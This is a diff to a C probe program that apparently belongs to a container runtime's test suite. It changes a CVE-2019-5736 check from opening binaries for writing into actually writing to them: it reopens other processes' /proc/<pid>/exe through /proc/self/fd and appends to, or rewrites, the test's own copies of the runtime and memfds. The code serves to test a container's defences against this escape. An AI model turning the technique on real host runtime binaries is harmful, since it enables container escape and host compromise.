@@ -13,11 +13,17 @@
  *   probe sockname <fd>  "<family> <path>" of a socket fd (unix sockets)
  *   probe keyring        the serial number of the session keyring (decimal)
  *   probe alloc <MiB>    allocate and touch MiB mebibytes, then print "allocated <MiB>"
- *   probe exewatch <sec> for <sec> seconds, open every other process's /proc/<pid>/exe with
- *                        O_PATH as soon as it appears (CVE-2019-5736); for each new binary
- *                        print "exe <pid> <dev>:<ino> <target> write=<ok|errno>", where write
- *                        is an open(O_WRONLY|O_APPEND) of it that is closed at once, NEVER
- *                        written to; at the end "done scans=<n> denied=<O_PATH opens refused>"
+ *   probe exewatch <sec> [<dev>:<ino>...] [memfd]
+ *                        for <sec> seconds, open every other process's /proc/<pid>/exe with
+ *                        O_PATH as soon as it appears (CVE-2019-5736) and keep it; for each
+ *                        new binary print "exe <pid> <dev>:<ino> <target> protected=<0|1>".
+ *                        The attack, only on the files named by <dev>:<ino> (the test's
+ *                        private copies of the runtime: protected=1) and, with "memfd",
+ *                        on memfds (in a pid namespace of the test's own only): reopen
+ *                        through /proc/self/fd and write, appending to a protected file and
+ *                        rewriting a memfd's first byte with itself; a busy file is tried
+ *                        again at the end. Then "write <dev>:<ino> <target> <ok|errno>" for
+ *                        each, and "done scans=<n> denied=<O_PATH opens refused>"
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -202,11 +208,63 @@ static double now(void)
     return ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
-static int cmd_exewatch(const char *arg)
+struct exe_seen {
+    dev_t dev;
+    ino_t ino;
+    int fd;        /* kept O_PATH fd of a target, -1 otherwise */
+    int done;      /* the write was tried and did not fail with ETXTBSY */
+    char target[128];
+};
+
+/* The write of the attack: append to a protected copy, rewrite a memfd's first byte as is. */
+static int exe_write(struct exe_seen *t, int protected)
+{
+    char reopen[64];
+    snprintf(reopen, sizeof(reopen), "/proc/self/fd/%d", t->fd);
+    int w = open(reopen, (protected ? O_WRONLY | O_APPEND : O_RDWR) | O_CLOEXEC);
+    if (w < 0)
+        return errno;
+    int err = 0;
+    if (protected) {
+        if (write(w, "written by the container\n", 25) != 25)
+            err = errno ? errno : EIO;
+    } else {
+        char b;
+        if (pread(w, &b, 1, 0) != 1 || pwrite(w, &b, 1, 0) != 1)
+            err = errno ? errno : EIO;
+    }
+    close(w);
+    return err;
+}
+
+static void exe_report(struct exe_seen *t, int protected, int final)
+{
+    if (t->fd < 0 || t->done)
+        return;
+    int err = exe_write(t, protected);
+    if (err == ETXTBSY && !final)
+        return;
+    t->done = 1;
+    printf("write %u:%u:%lu %s %s\n", major(t->dev), minor(t->dev), (unsigned long)t->ino,
+           t->target, err ? strerror(err) : "ok");
+    fflush(stdout);
+}
+
+static int exe_protected(struct exe_seen *t, char **ids, int nids)
+{
+    char id[64];
+    snprintf(id, sizeof(id), "%u:%u:%lu", major(t->dev), minor(t->dev), (unsigned long)t->ino);
+    for (int i = 0; i < nids; i++)
+        if (strcmp(ids[i], id) == 0)
+            return 1;
+    return 0;
+}
+
+static int cmd_exewatch(const char *arg, char **ids, int nids)
 {
     double deadline = now() + atof(arg);
     pid_t self = getpid();
-    static struct { dev_t dev; ino_t ino; } seen[256];
+    static struct exe_seen seen[256];
     int nseen = 0;
     long scans = 0, denied = 0;
     while (now() < deadline) {
@@ -232,42 +290,42 @@ static int cmd_exewatch(const char *arg)
             int known = fstat(fd, &st) != 0;
             for (int i = 0; i < nseen && !known; i++)
                 known = seen[i].dev == st.st_dev && seen[i].ino == st.st_ino;
-            if (known) {
+            if (known || nseen == 256) {
                 close(fd);
                 continue;
             }
-            if (nseen < 256) {
-                seen[nseen].dev = st.st_dev;
-                seen[nseen].ino = st.st_ino;
-                nseen++;
-            }
-            char target[PATH_MAX + 1], reopen[64];
-            ssize_t n = readlink(link, target, PATH_MAX);
+            struct exe_seen *t = &seen[nseen++];
+            t->dev = st.st_dev;
+            t->ino = st.st_ino;
+            t->done = 0;
+            ssize_t n = readlink(link, t->target, sizeof(t->target) - 1);
             if (n < 0)
-                snprintf(target, sizeof(target), "?");
-            else
-                target[n] = '\0';
-            for (char *c = target; *c; c++)
+                n = snprintf(t->target, sizeof(t->target), "?");
+            t->target[n] = '\0';
+            for (char *c = t->target; *c; c++)
                 if (*c == ' ')
                     *c = '_';
-            /* Only an open for writing, closed at once: nothing is ever written. */
-            snprintf(reopen, sizeof(reopen), "/proc/self/fd/%d", fd);
-            int w = open(reopen, O_WRONLY | O_APPEND | O_CLOEXEC);
-            char result[32];
-            if (w >= 0) {
-                close(w);
-                snprintf(result, sizeof(result), "ok");
-            } else {
-                snprintf(result, sizeof(result), "%d", errno);
-            }
-            printf("exe %d %u:%u:%lu %s write=%s\n", pid, major(st.st_dev), minor(st.st_dev),
-                   (unsigned long)st.st_ino, target, result);
+            int protected = exe_protected(t, ids, nids);
+            printf("exe %d %u:%u:%lu %s protected=%d\n", pid, major(st.st_dev),
+                   minor(st.st_dev), (unsigned long)st.st_ino, t->target, protected);
             fflush(stdout);
-            close(fd);
+            int memfd = strncmp(t->target, "/memfd:", 7) == 0;
+            int attack_memfds = nids > 0 && strcmp(ids[nids - 1], "memfd") == 0;
+            if (protected || (memfd && attack_memfds)) {
+                t->fd = fd;
+                exe_report(t, protected, 0);
+            } else {
+                t->fd = -1;
+                close(fd);
+            }
         }
         closedir(d);
         scans++;
+        for (int i = 0; i < nseen; i++)
+            exe_report(&seen[i], exe_protected(&seen[i], ids, nids), 0);
     }
+    for (int i = 0; i < nseen; i++)
+        exe_report(&seen[i], exe_protected(&seen[i], ids, nids), 1);
     printf("done scans=%ld denied=%ld\n", scans, denied);
     return 0;
 }
@@ -276,7 +334,7 @@ int main(int argc, char **argv)
 {
     if (argc < 2) {
         fprintf(stderr,
-                "usage: probe fds|rlimits|umask|winsize|ids|sockname FD|keyring|alloc MIB|exewatch SEC\n");
+                "usage: probe fds|rlimits|umask|winsize|ids|sockname FD|keyring|alloc MIB|exewatch SEC [DEV:INO...]\n");
         return 2;
     }
     const char *cmd = argv[1];
@@ -297,7 +355,7 @@ int main(int argc, char **argv)
     if (strcmp(cmd, "alloc") == 0 && argc > 2)
         return cmd_alloc(argv[2]);
     if (strcmp(cmd, "exewatch") == 0 && argc > 2)
-        return cmd_exewatch(argv[2]);
+        return cmd_exewatch(argv[2], argv + 3, argc - 3);
     fprintf(stderr, "probe: unknown command %s\n", cmd);
     return 2;
 }
